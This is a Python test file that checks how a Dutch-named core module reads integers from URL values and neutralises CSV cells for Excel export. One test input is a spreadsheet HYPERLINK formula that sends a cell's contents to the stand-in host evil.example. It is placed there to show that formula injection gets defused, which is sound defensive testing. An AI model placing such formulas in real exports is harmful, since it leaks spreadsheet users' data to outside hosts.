"""The shared readers and writers of core: integers from URLs, CSV cells."""

import csv
import io

import pytest

from core.csvbestand import excel_schrijver, herstel_cel, veilige_cel
from core.parameters import GROOTSTE_ID, geheel_getal, gehele_getallen


@pytest.mark.parametrize(
    "waarde",
    ["²", "①", "٣", "１２", "-1", "1.5", "", None, "9" * 10_000, "12a", " ", "0x10", True],
)
def test_anything_but_ascii_digits_is_not_given(waarde):
    assert geheel_getal(waarde, standaard="niets") == "niets"


def test_ascii_digits_within_range_are_read():
    assert geheel_getal("42") == 42
    assert geheel_getal(" 7 ") == 7
    assert geheel_getal(5) == 5
    assert geheel_getal(str(GROOTSTE_ID)) == GROOTSTE_ID
    assert geheel_getal(str(GROOTSTE_ID + 1)) is None
    assert geheel_getal("9223372036854775808") is None
    assert geheel_getal("1799", minimum=1800, maximum=2200) is None
    assert geheel_getal("2024", minimum=1800, maximum=2200) == 2024


def test_a_list_keeps_the_valid_values_once():
    assert gehele_getallen(["3", "²", "3", "x", "4"]) == [3, 4]


@pytest.mark.parametrize(
    "cel",
    ['=HYPERLINK("http://evil.example/?x="&A1,"klik")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx"],
)
def test_formula_cells_are_neutralised_and_restored(cel):
    veilig = veilige_cel(cel)
    assert veilig == "'" + cel
    assert herstel_cel(veilig) == cel


@pytest.mark.parametrize("cel", ["-13", "-0,5", "+4", "12%", "gewoon", "", 7, None, -3])
def test_numbers_and_plain_text_stay(cel):
    assert veilige_cel(cel) == cel


def test_excel_writer_writes_bom_semicolons_and_neutralised_cells():
    uit = io.StringIO()
    schrijver = excel_schrijver(uit)
    schrijver.writerow(["omschrijving", "aantal"])
    schrijver.writerow(["=1+1", -3])
    tekst = uit.getvalue()
    assert tekst.startswith("\ufeffomschrijving;aantal\r\n")
    rijen = list(csv.reader(io.StringIO(tekst.lstrip("\ufeff")), delimiter=";"))
    assert rijen[1] == ["'=1+1", "-3"]
